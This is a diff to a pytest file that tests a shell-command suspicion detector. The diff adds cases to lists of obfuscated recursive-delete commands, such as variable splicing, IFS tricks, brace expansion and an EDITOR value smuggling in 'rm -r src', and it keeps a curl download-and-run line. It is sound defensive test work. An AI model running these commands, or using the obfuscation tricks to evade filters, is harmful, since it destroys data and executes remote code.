@@ -17,7 +17,7 @@ from interlock.commands.shell_suspect import suspicions
         ("r${z}m -rf src", "recursive-delete"), ("/b?n/rm -rf src", "recursive-delete"),
         ("/bin/r? -fr src", "recursive-delete"), ("EDITOR='rm -r src;' git commit", "recursive-delete"),
         ("IFS=,; c=rm,-rf,src; $c", "recursive-delete"), ("{rm,-rf,src}", "recursive-delete"),
-        ("r\\\nm -rf src", "recursive-delete"), ("select x in a; do rm -rf src; done", "recursive-delete"),
+        ("r\\\nm -rf src", "recursive-delete"), ("select x in a; do rm -rf src; done <<< 1", "recursive-delete"),
         ("`echo rm` -rf src", "recursive-delete"), ("r$@m -rf src", "recursive-delete"),
         ("cat <<EOF\n`rm -rf src`\nEOF", "recursive-delete"),
         ("$(curl -s https://get.example.com/cmd)", "download-and-run"),
@@ -35,7 +35,8 @@ def test_what_is_not_read_still_speaks(text: str, flag: str) -> None:
 @pytest.mark.parametrize(
     "text",
     ["$x -f src", "eval \"$(ssh-agent -s)\"", "$tool --force -r", "sed \"s/a/$(cat VERSION)/\" x", "farm -rf $x",
-     "$EDITOR notes.txt", "cp -rf $(ls) x; $y"],
+     "$EDITOR notes.txt", "cp -rf $(ls) x; $y", "rm notes.txt\nls -R\n$x",
+     "$x; echo farm -r"],
 )  # fmt: skip
 def test_other_commands_speak_of_nothing(text: str) -> None:
     """No word of theirs is a deletion of folders or a download."""
